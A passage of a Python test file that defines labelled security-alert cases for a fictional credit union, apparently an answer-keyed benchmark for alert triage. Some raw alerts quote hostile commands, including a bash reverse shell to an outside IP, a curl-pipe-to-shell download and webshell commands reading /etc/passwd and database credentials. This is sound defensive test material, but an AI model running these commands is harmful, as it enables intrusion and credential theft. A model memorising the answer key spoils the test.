        "Exfiltration: BigQuery Data Extraction",
        "Table mcu-analytics.members.transactions_2026 (4.1M rows) copied by analyst j.tamm@marlowecu.org to "
        "project 'analytics-sandbox-ext', which belongs to another organisation. Could be the churn-model "
        "vendor's project (they had a sandbox last year) or not. Kirjutasin Jaanile, ootan vastust.",
        etd_finding(
            "Exfiltration: BigQuery Data Extraction",
            "MEDIUM",
            "//bigquery.googleapis.com/projects/mcu-analytics",
            principalEmail="j.tamm@marlowecu.org",
            exportToTable={"source": "members.transactions_2026", "destination": "analytics-sandbox-ext:copy.tx"},
        ),
    ),
    etd(
        (39, (BEN, GENERIC, []), "medium"),
        "Persistence: IAM Anomalous Grant",
        "roles/bigquery.dataViewer granted to a service account of the new reporting vendor on the marketing "
        "dataset by platform engineer t.ngata. Approved under CHG-30611 (vendor onboarding, DPA signed); "
        "dataset holds only aggregated campaign figures. Expected.",
        etd_finding(
            "Persistence: IAM Anomalous Grant",
            "MEDIUM",
            "//cloudresourcemanager.googleapis.com/projects/mcu-marketing",
            principalEmail="t.ngata@marlowecu.org",
            sensitiveRoleGrant={"role": "roles/bigquery.dataViewer", "members": [VENDOR_SA]},
        ),
    ),
]

# --- Alibaba Cloud Security Center ---
sas = tool("Alibaba Cloud Security Center", "aliyun_sas")


def sas_event(name: str, kind: str, level: str, instance: str, *details: tuple[str, str], **more: Any) -> Raw:
    head = {"AlarmEventNameDisplay": name, "AlarmEventTypeDisplay": kind, "Level": level, "InstanceName": instance}
    body = {"OccurrenceTime": "2027-02-16 10:12:03", "EventStatus": 1, "Uuid": "4f1e8d0c-97b3-4a2e-b4c1-0d6e3a9f7b52"}
    return {**head, **body, "Details": [{"NameDisplay": n, "ValueDisplay": v} for n, v in details], **more}


WEBSHELL = [
    ("File path", "/var/www/rates/uploads/avatar_3312.jsp"),
    ("Webshell type", "JSP"),
    ("Commands", "whoami; cat /etc/passwd; cat /opt/rates/conf/db.properties"),
]
TMP_PROC = [("Process path", "/tmp/systemd-update"), ("User", "www-data"), ("Network", "139.59.118.4:8080")]

ALIBABA = [
    sas(
        (40, (MAL, MALWARE, ["isolate_host"]), "critical"),
        "Webshell detected: /var/www/rates/uploads/avatar_3312.jsp",
        "ECS instance hosting the rates microsite for the Asia-Pacific correspondent partners. A JSP uploaded "
        "through the 'profile picture' form yesterday; since then it has run 'whoami', 'cat /etc/passwd' and "
        "read the DB connection file, commands coming from 8.218.71.33.",
        sas_event(
            "Webshell", "Website Backdoor", "serious", "mcu-ap-rates-web01", *WEBSHELL, InternetIp="47.245.12.88"
        ),
        systems=["mcu-ap-rates-web01"],
    ),
    sas(
        (41, (SUS, MALWARE, ["isolate_host", "notify"]), "medium"),
        "Suspicious process: unknown program executed from /tmp",
        "www-data ran /tmp/systemd-update (ELF, 2.3 MB, not known to any reputation source) on the rates "
        "microsite's second node, and it opened a connection to 139.59.118.4:8080. No webshell found on that "
        "node yet. Could also be the partner's deploy script that unpacks to /tmp, but that runs as 'deploy'.",
        sas_event("Unusual process", "Suspicious Process", "suspicious", "mcu-ap-rates-web02", *TMP_PROC),
        systems=["mcu-ap-rates-web02"],
    ),
    sas((42, (UNK, GENERIC, []), "low"), None, None, sas_event("", "", "remind", "")),
]

# --- Snowflake (home-made access-history script) ---
snowflake = tool("Snowflake access history", "snowflake-audit")

SNOWFLAKE = [
    snowflake(
        (43, (MAL, EXFIL, ["disable_user", "reset_credentials", "block_ip"]), "critical"),
        "SVC_REPORTING: password-only login from a VPN exit, temp stage, 6.2 GB unloaded",
        "Login history: SVC_REPORTING (password, no MFA, no network policy) from 146.70.171.99 (Mullvad) with "
        "client DBeaver at 02:31, never seen before. It ran SHOW TABLES across MEMBERS_DB, then CREATE TEMPORARY "
        "STAGE, COPY INTO @~tmp from MEMBERS_DB.CORE.MEMBERS and CARDS.PAN_TOKENS, and GET of the files. The "
        "password sits in a BI contractor's laptop config; the contractor's laptop had an infostealer in "
        "January (found by their own IT).",
        {"USER_NAME": "SVC_REPORTING", "CLIENT_IP": "146.70.171.99", "REPORTED_CLIENT_TYPE": "JDBC_DRIVER"}
        | {"FIRST_AUTHENTICATION_FACTOR": "PASSWORD", "SECOND_AUTHENTICATION_FACTOR": None, "IS_SUCCESS": "YES"}
        | {"queries": ["SHOW TABLES", "CREATE TEMPORARY STAGE tmp_x", "COPY INTO @tmp_x FROM MEMBERS", "GET @tmp_x"]}
        | {"bytes_unloaded": 6657199308},
        kind="data_exfiltration",
    ),
    snowflake(
        (44, (BEN, EXFIL, []), "high"),
        None,
        None,
        {"rule": "large_unload_external_stage", "user": "MIG_LAKEHOUSE", "role": "DATA_ENG_MIGRATION"}
        | {"query": "COPY INTO @MIG.S3_LAKEHOUSE_STAGE/members/ FROM MEMBERS_DB.CORE.MEMBERS"}
        | {"bytes_unloaded": 2310000000000, "stage_url": "s3://mcu-lakehouse-landing/members/"}
        | {"note": "lakehouse migration LAKE-M3, CHG-30720, bucket is ours (630418275514), window 22:00-06:00"},
    ),
    snowflake(
        (45, (SUS, EXFIL, ["notify"]), "medium"),
        "Bulk read of MEMBER_PII by n.fourie (4.2M rows, downloaded)",
        "Access history: n.fourie (data analyst, Cape Town) selected every column of MEMBER_PII incl. ID "
        "numbers and addresses, 4.2M rows, and downloaded the result from Snowsight on Friday at 21:50. HR "
        "says she resigned last Tuesday. Her manager says the churn model she's finishing uses some of these "
        "columns, but not ID numbers and not all members. Not asked her yet.",
        {"USER_NAME": "N.FOURIE", "DIRECT_OBJECTS_ACCESSED": ["MEMBERS_DB.CORE.MEMBER_PII"]}
        | {"ROWS_PRODUCED": 4213377, "CLIENT": "Snowsight", "RESULT_DOWNLOADED": True},
    ),
    snowflake(
        (46, (BEN, PERF, ["notify"]), "medium"),
        "ANALYTICS_WH: queries queued up to 14 min",
        "month end: finance + regulatory reporting all hit ANALYTICS_WH (size M, max 2 clusters) at once. "
        "queue time avg 9 min, max 14. nothing broken, warehouse just too small for the peak. FinOps to "
        "decide on max_cluster_count=4 for month end",
        {"warehouse": "ANALYTICS_WH", "avg_queued_load": 3.7, "max_queue_ms": 843000, "size": "MEDIUM"},
    ),
]

# --- Databricks audit logs ---
databricks = tool("Databricks audit logs", "databricks")


def dbx(service: str, action: str, email: str, ip: str, status: int, **params: Any) -> Raw:
    head = {"version": "2.0", "auditLevel": "WORKSPACE_LEVEL", "timestamp": 1802222840000, "workspaceId": 4417209}
    who = {"userIdentity": {"email": email}, "sourceIPAddress": ip, "response": {"statusCode": status}}
    return {**head, "serviceName": service, "actionName": action, **who, "requestParams": params}


DATABRICKS = [
    databricks(
        (47, (SUS, GENERIC, ["notify"]), "high"),
        "getSecret x 38 on scope 'core-banking' from an interactive notebook",
        "Notebook /Users/k.ahern/debug_conn read all 38 secrets in the core-banking scope in one run and printed "
        "them one character per line (which gets around the [REDACTED] filter). k.ahern is a data engineer who "
        "was fighting a JDBC connection issue yesterday, so maybe just debugging badly. Output is still in the "
        "notebook revision history. Not confirmed with her yet.",
        dbx("secrets", "getSecret", f"k.ahern@{DOMAIN}", "10.46.12.37", 200, scope="core-banking", key="(38 keys)"),
    ),
    databricks(
        (48, (BEN, BRUTE, []), "medium"),
        None,
        None,
        dbx("accounts", "tokenLogin", "svc-airflow@marlowecu.org", "10.40.70.15", 401, tokenHash="9f0c…e21")
        | {"count_24h": 4032, "comment": "PAT expired 2027-02-17, Airflow conn still uses it; ticket DATA-1182"},
    ),
]

# --- MongoDB Atlas ---
atlas = tool("MongoDB Atlas", "mongodb_atlas")

AUTH_APPDEV = {"atype": "authenticate", "users": [{"user": "appdev", "db": "admin"}], "remote": {"ip": "194.26.192.77"}}
DROP_ALL = {"atype": "dropDatabase", "param": {"ns": "loans_dev"}, "result": 0, "repeated": 7}

MONGODB_ATLAS = [
    atlas(
        (49, (MAL, AVAIL, ["disable_user", "reset_credentials", "block_ip"]), "critical"),
        "loans-dev cluster: all databases dropped, a database named READ__ME_TO_RECOVER_YOUR_DATA left behind",
        "The dev cluster behind the loan calculator test site is empty; one new database with a note asking "
        "0.0065 BTC for the data. Audit log: user 'appdev' (password 'appdev123', created for a demo) "
        "authenticated from 194.26.192.77, listed the databases, copied nothing big we can see, then "
        "dropDatabase on all 7. The access list has had 0.0.0.0/0 since a demo in December. Test site is down.",
        {"cluster": "loans-dev", "groupId": "65c1f0a8e4b0a12d7f3c9e21", "audit": [AUTH_APPDEV, DROP_ALL]},
        systems=["loans-dev"],
    ),
    atlas(
        (50, (SUS, GENERIC, ["notify"]), "medium"),
        "Atlas project 'member-notifications': IP access list entry 0.0.0.0/0 added",
        "Added 3 days ago by developer r.poutama with the comment 'temp - remove after test'. Still there. The "
        "cluster holds members' push tokens and e-mail addresses. No logins from outside our ranges so far; "
        "whether anyone else has used it is exactly what we can't tell from the alert.",
        {"eventTypeName": "NETWORK_PERMISSION_ENTRY_ADDED", "groupId": "65c1f0a8e4b0a12d7f3c9e88"}
        | {"whitelistEntry": "0.0.0.0/0", "username": f"r.poutama@{DOMAIN}", "created": "2027-02-15T04:12:09Z"},
    ),
]

# --- Vanta ---
vanta = tool("Vanta", "vanta")

VANTA = [
    vanta(
        (51, (BEN, GENERIC, ["disable_user"]), "low"),
        "Test failing: Offboarded employees have their access removed (GitHub)",
        "One GitHub account still in the marlowecu org: former developer e.mikkelsen, left 9 days ago. Her "
        "laptop was returned, her SSO account is disabled and GitHub shows no activity since her last day; "
        "the GitHub step of the offboarding checklist was missed.",
        {"type": "TEST_STATUS_CHANGED", "test": {"id": "offboarding-access-removed", "status": "NEEDS_ATTENTION"}}
        | {"failingResources": [{"integration": "github", "account": "emikkelsen-mcu", "lastActive": "2027-02-06"}]},
    ),
    vanta((52, (UNK, GENERIC, []), "medium"), "FW: Vanta", "see attached", {"attachments": []}),
]

# --- Upwind ---
upwind = tool("Upwind", "upwind")


def uw(title: str, sev: str, workload: str, cmd: str, exe: str, **more: Any) -> Raw:
    res = {"cloud_provider": "aws", "cluster": "mcu-eks-prod", "namespace": more.pop("ns", "member-apps")}
    proc = {"command_line": cmd, "executable": exe, "user": more.pop("user", "1001")}
    head = {"id": "thr_7d2e91c4", "type": "THREAT_DETECTION", "status": "OPEN", "title": title, "severity": sev}
    return {**head, "resource": {**res, "workload": workload}, "process": proc, **more}


SCAN = "Network scanning tool executed"

UPWIND = [
    upwind(
        (53, (MAL, MALWARE, ["isolate_host", "block_ip"]), "critical"),
        "Reverse shell from member-portal-api",
        "The Java API pod spawned 'sh -c curl -s http://91.215.85.40/k.sh | sh', and a bash connected out to "
        "91.215.85.40:4444 with its stdin/stdout on the socket. The same minute the WAF logged a request with "
        "a JNDI-looking header to /api/v2/statements. The shell listed /var/run/secrets.",
        uw("Reverse shell", "CRITICAL", "member-portal-api", "bash -i >& /dev/tcp/91.215.85.40/4444 0>&1", "/bin/bash")
        | {"parent": {"executable": "/usr/bin/java"}, "network": {"remote_ip": "91.215.85.40", "remote_port": 4444}},
        systems=["mcu-eks-prod/member-portal-api"],
    ),
    upwind(
        (54, (BEN, MALWARE, []), "medium"),
        "Network scanning tool executed: nmap",
        "From the netsec-tools namespace, the security team's weekly internal scan CronJob (image "
        "mcu/netsec-scanner:2027.02, runs Sundays 02:00). Same as every week; added to the allow-list now.",
        uw(
            SCAN,
            "MEDIUM",
            "weekly-internal-scan",
            "nmap -sS -p 1-1024 10.40.0.0/16",
            "/usr/bin/nmap",
            ns="netsec-tools",
        ),
    ),
    upwind(
        (55, (SUS, MALWARE, ["isolate_host", "notify"]), "high"),
        "Network scanning tool executed: nmap (drifted binary)",
        "Same detection but not from our scanner: the loan-scoring-api pod ran /tmp/.cache/nm, a binary that "
        "is not in the image (drift), as uid 1001, scanning 10.40.0.0/16 on 22/445/3389. Nobody on the "
        "lending team knows why. No other bad sign on the pod yet.",
        uw(SCAN, "HIGH", "loan-scoring-api", "/tmp/.cache/nm -sT -p 22,445,3389 10.40.0.0/16", "/tmp/.cache/nm")
        | {"drift": {"binary_not_in_image": True, "image": "mcu/loan-scoring-api:4.12.0"}},
        systems=["mcu-eks-prod/loan-scoring-api"],
    ),
]

CASES: list[Case] = [
    *DELINEA,
    *SAVIYNT,
    *CISCO_ISE,
    *FUSIONAUTH,
    *STYTCH,
    *WORKOS,
    *FRONTEGG,
    *ORY,
    *SECURITY_LAKE,
    *AZURE_POLICY,
    *ETD,
    *ALIBABA,
    *SNOWFLAKE,
    *DATABRICKS,
    *MONGODB_ATLAS,
    *VANTA,
    *UPWIND,
]
